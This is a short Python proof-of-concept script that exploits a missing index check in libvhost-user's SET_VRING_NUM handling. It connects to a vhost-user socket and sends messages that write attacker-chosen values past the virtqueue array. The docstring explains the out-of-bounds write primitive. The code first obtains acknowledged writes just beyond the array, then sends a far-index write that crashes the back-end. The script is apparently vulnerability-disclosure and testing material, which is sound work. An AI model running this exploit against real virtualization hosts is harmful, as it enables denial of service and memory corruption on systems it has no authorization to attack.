#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""SET_VRING_NUM (and SET_VRING_BASE, SET_VRING_ADDR, GET_VRING_BASE) with a
queue index past the device's queues.

libvhost-user's vu_set_vring_num_exec() does
    dev->vq[index].vring.num = num;
with index and num taken from the message and no check of index against
dev->max_queues: a 32-bit value of the front-end's choice written at
dev->vq + index * sizeof(VuVirtq), i.e. anywhere above the vq array in the
back-end's address space.  The reproducer first asks for a REPLY_ACK on a
small index (the write is acknowledged as a success), then writes at a far
index (unmapped: the back-end dies with SIGSEGV).

usage: repro_vring_index.py SOCKET
"""
import struct
import sys

from _common import args, say, vuattack as vu

sock, = args(1)
c = vu.Conn(sock, timeout=3)
c.negotiate()
nq = c.queue_num()
say("device has %d queue(s); protocol features %#x" % (nq, c.protocol))
# 1. a write just past the array, acknowledged
for idx in (nq, nq + 3):
    try:
        ack = c.set_state(vu.SET_VRING_NUM, idx, 0x41414141, ack=True)
        say("SET_VRING_NUM index=%d num=0x41414141 -> ack %d (0 = accepted)" % (idx, ack))
    except (vu.Closed, vu.Timeout) as e:
        say("SET_VRING_NUM index=%d -> %s: %s" % (idx, type(e).__name__, e))
        sys.exit(0)
# 2. a write far away: index 0x00ffffff * sizeof(VuVirtq) bytes above vq[]
try:
    c.send(vu.SET_VRING_NUM, struct.pack("<II", 0x00ffffff, 0x42424242), flags=vu.NEED_REPLY)
    rp, _ = c.recv()[2:]
    say("SET_VRING_NUM index=0xffffff -> answered %r" % rp)
except (vu.Closed, vu.Timeout) as e:
    say("SET_VRING_NUM index=0xffffff -> %s: %s" % (type(e).__name__, e))
